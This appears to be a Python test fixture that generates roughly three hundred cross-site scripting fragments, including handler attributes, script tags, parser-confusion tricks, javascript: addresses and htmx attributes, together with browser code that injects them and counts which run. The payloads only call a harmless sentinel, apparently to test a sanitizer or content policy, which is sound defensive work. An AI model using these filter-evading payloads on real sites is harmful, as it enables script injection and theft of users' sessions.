"""Three hundred fragments that would run a script of theirs, drawn from families; each calls `sentinel(number)`."""
# ruff: noqa: E501 - markup and scripts stand on the lines that they have

from collections.abc import Iterator

CALL = "sentinel(%d)"
SENTINEL = "window.fired = []; window.sentinel = (number) => { window.fired.push(number); return 1; };"
# Puts each fragment in by one way, touches all that came of it, and leaves it there; answers how many got in.
PUT = """async ([way, list]) => {
  const put = {
    innerHTML: (spot, html) => { spot.innerHTML = html; },
    outerHTML: (spot, html) => { const inner = document.createElement("div"); spot.append(inner); inner.outerHTML = html; },
    adjacent: (spot, html) => spot.insertAdjacentHTML("afterbegin", html),
    range: (spot, html) => spot.append(document.createRange().createContextualFragment(html)),
    htmx: (spot, html) => window.htmx.swap(spot, html, {swapStyle: "innerHTML"}),
  }[way];
  const stay = (event) => {
    const to = event.target.closest("a, area")?.getAttribute("href") || event.target.form?.action || "";
    if (!/script/i.test(to)) event.preventDefault();
  };
  document.addEventListener("click", stay, true);
  const room = document.createElement("div");
  document.body.append(room);
  let entered = 0;
  for (const html of list) {
    const spot = document.createElement("div");
    room.append(spot);
    try { put(spot, html); entered += 1; } catch { continue; }
    for (const one of spot.querySelectorAll("*")) {
      for (const name of ["click", "focus", "pointerenter", "mouseover"]) {
        try { one.dispatchEvent(new MouseEvent(name, {bubbles: true, cancelable: true})); } catch { /* it went away */ }
      }
    }
  }
  await new Promise((done) => setTimeout(done, 700));
  document.removeEventListener("click", stay, true);
  room.remove();
  return entered;
}"""
# Other ways for a string to become a script; each is tried with a call of the sentinel.
STRINGS = """window.tryStrings = async () => {
  const call = "sentinel(1)", tried = [];
  const blob = (type) => URL.createObjectURL(new Blob([`self.${call}`], {type}));
  const element = (name, change) => { const made = document.createElement(name); change(made); document.body.append(made); };
  const ways = [
    () => eval(call), () => window["ev" + "al"](call), () => new Function(call)(), () => Function(call)(),
    () => (async () => 0).constructor(call)(), () => (function* () {}).constructor(call)().next(),
    () => setTimeout(call, 0), () => setInterval(call, 1), () => document.write(`<script>${call}</script>`),
    () => document.writeln(`<img src=x onerror=${call}>`), () => element("script", (s) => { s.text = call; }),
    () => element("script", (s) => { s.textContent = call; }), () => element("script", (s) => { s.innerText = call; }),
    () => element("script", (s) => s.append(call)), () => element("script", (s) => { s.src = "data:text/javascript," + call; }),
    () => element("script", (s) => { s.src = blob("text/javascript"); }), () => element("script", (s) => { s.src = "//elsewhere.example/x.js"; }),
    () => element("script", (s) => s.setAttribute("src", "/media/x.js")), () => element("p", (p) => { p.setAttribute("onclick", call); p.click(); }),
    () => element("iframe", (f) => { f.srcdoc = `<script>parent.${call}</script>`; }),
    () => element("iframe", (f) => f.setAttribute("srcdoc", `<script>parent.${call}</script>`)),
    () => element("iframe", (f) => { f.src = "javascript:parent." + call; }), () => element("object", (o) => { o.data = "data:text/html,<script>" + call; }),
    () => element("embed", (e) => { e.src = "data:text/html,<script>" + call; }), () => element("a", (a) => { a.href = "javascript:" + call; a.click(); }),
    () => new Worker(blob("text/javascript")), () => new Worker("data:text/javascript," + call), () => new SharedWorker("data:text/javascript," + call),
    () => import("data:text/javascript," + call), () => import(blob("text/javascript")), () => navigator.serviceWorker.register("/media/x.js"),
    () => window.open("javascript:" + call, "_self"), () => document.createRange().createContextualFragment(`<script>${call}</script>`),
    () => document.body.setHTMLUnsafe(`<img src=x onerror=${call}>`), () => Document.parseHTMLUnsafe(`<img src=x onerror=${call}>`),
    () => new DOMParser().parseFromString(`<img src=x onerror=${call}>`, "text/html"), () => document.execCommand("insertHTML", false, `<img src=x onerror=${call}>`),
    () => htmx.evaluate?.(call), () => { htmx.config.allowEval = true; htmx.config.allowScriptTags = true; htmx.swap(document.body.appendChild(document.createElement("div")), `<script>${call}</script>`, {swapStyle: "innerHTML"}); },
    () => trustedTypes.createPolicy("other", {createScript: (s) => s}), () => trustedTypes.createPolicy("default", {createScript: (s) => s}),
  ];
  for (const way of ways) { try { await way(); tried.push(1); } catch { tried.push(0); } }
  await new Promise((done) => setTimeout(done, 500));
  window.triedStrings = tried.length;
};"""

# Elements that run a handler by themselves, or as soon as somebody touches them.
HANDLERS = (
    "<img src=x onerror={c}>", "<image src=x onerror={c}>", "<svg onload={c}>", "<svg><image href=x onerror={c}></svg>",
    "<video><source onerror={c}></video>", "<audio src=x onerror={c}></audio>", "<details open ontoggle={c}>x</details>",
    "<input autofocus onfocus={c}>", "<body onload={c}>", "<iframe onload={c}></iframe>", "<object data=x onerror={c}></object>",
    "<svg><animate onbegin={c} attributeName=x dur=1s></svg>", "<marquee onstart={c}>x</marquee>", "<p onclick={c}>x</p>",
    "<button onclick={c}>x</button>", "<textarea onfocus={c} autofocus></textarea>", "<select onfocus={c} autofocus></select>",
    "<svg><set onbegin={c} attributeName=x to=1></svg>", "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<table><tr><td><img src=x onerror={c}></table>", "<a id=x tabindex=1 onfocus={c}></a>",
    "<p onpointerenter={c}>x</p>", "<style onload={c}></style>", "<link rel=stylesheet href=/x onerror={c}>",
)  # fmt: skip
# The same written so that a reader of characters loses its place.
DISGUISES = (
    ("plain", lambda h: h),
    ("capitals", lambda h: h.replace(" on", " oN").replace("onerror", "OnErRoR").replace("onload", "ONLOAD")),
    ("slashes", lambda h: h.replace(" on", "/on").replace(" src", "/src")),
    ("lines", lambda h: h.replace(" on", "\n\ton")),
    ("form feed", lambda h: h.replace(" on", "\x0con")),
    ("after a quote", lambda h: h.replace(" on", " title='a>b'on", 1)),
    ("after an equals", lambda h: h.replace(" on", " ==on=1 on", 1)),
    ("after a text area", lambda h: f"<textarea><p title='</textarea>{h}'></textarea>"),
    ("after a comment", lambda h: f"<!-- <p title=' -->{h}'>"),
)  # fmt: skip
# Scripts themselves, and what loads one.
SCRIPTS = (
    "<script>{c}</script>", "<SCRIPT >{c}</SCRIPT >", "<script/x>{c}</script/x>", "<svg><script>{c}</script></svg>",
    "<svg><script href=data:text/javascript,{c} /></svg>", "<script src='data:text/javascript,{c}'></script>",
    "<math><script>{c}</script></math>", "<script type=module>{c}</script>", "<script\n>{c}\n</script\n>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.{c}&gt;'></iframe>",
    "<iframe src=\"data:text/html,<script>parent.{c}</script>\"></iframe>", "<object data='data:text/html,<script>{c}</script>'></object>",
    "<embed src='data:text/html,<script>{c}</script>'>", "<base href='data:text/javascript,{c}//'><script src=x></script>",
    "<template shadowrootmode=open><img src=x onerror={c}></template>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'></noscript>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<math><annotation-xml encoding=text/html><img src=x onerror={c}></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>", "<svg></p><style><p title='</style><img src=x onerror={c}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={c}&gt;'>",
    "<svg><![CDATA[<p title=']]><img src=x onerror={c}>'></svg>", "<?php <img src=x onerror={c}> ?>", "<!x <img src=x onerror={c}>>",
    "<!--><img src=x onerror={c}>-->", "<!--- --!><img src=x onerror={c}>-->", "<xmp><p title='</xmp><img src=x onerror={c}>'></xmp>",
    "<plaintext><img src=x onerror={c}>", "<title><p title='</title><img src=x onerror={c}>'></title>",
    "<noembed><p title='</noembed><img src=x onerror={c}>'></noembed>", "<frameset onload={c}>",
    "<img src=x onerror='{c}' \x00>", "<img \x00src=x onerror={c}>", "<p/=\"><img src=x onerror={c}>",
)  # fmt: skip
# Addresses that are a script, on what follows them when it is clicked or loaded.
ADDRESSED = (
    "<a href=\"{u}\">x</a>", "<form action=\"{u}\"><button>x</button></form>", "<button form=f formaction=\"{u}\">x</button>",
    "<svg><a xlink:href=\"{u}\"><text y=9>x</text></a></svg>", "<iframe src=\"{u}\"></iframe>", "<map><area href=\"{u}\"></map>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "java\nscript:{c}", "java&#9;script:{c}",
    "&#106;avascript:{c}", "javascript&colon;{c}", "javascript://%0a{c}", "vbscript:{c}", "data:text/html,<script>{c}</script>",
)  # fmt: skip
# What htmx would run when it reads the fragment.
HTMX = (
    "<p hx-on:click='{c}'>x</p>", "<p hx-on::load='{c}'>x</p>", "<p data-hx-on:click='{c}'>x</p>", "<p hx-on-click='{c}'>x</p>",
    "<p hx-get=/x hx-trigger=click hx-vals='js:{{a:{c}}}'>x</p>", "<p hx-get=/x hx-trigger=click hx-vals='javascript:{{a:{c}}}'>x</p>",
    "<p hx-get=/x hx-trigger=click hx-headers='js:{{a:{c}}}'>x</p>", "<p hx-get=/x hx-trigger=click data-hx-vals='js:{{a:{c}}}'>x</p>",
    "<p hx-get=/x hx-trigger='click[{c}]'>x</p>", "<p hx-get=/x hx-trigger='load[{c}]'>x</p>",
    "<p hx-get=/x hx-trigger=click hx-vars='a:{c}'>x</p>", "<p hx-get=/x hx-trigger=click hx-request='js:{{timeout:{c}}}'>x</p>",
)  # fmt: skip


def fragments() -> Iterator[str]:
    """Every one, each with its own number."""
    shapes = [disguise(handler) for handler in HANDLERS for _, disguise in DISGUISES]
    shapes += [*SCRIPTS, *HTMX]
    shapes += [shape.replace("{u}", address) for shape in ADDRESSED for address in ADDRESSES]
    for number, shape in enumerate(shapes):
        yield shape.replace("{c}", CALL % number).replace("{{", "{").replace("}}", "}")
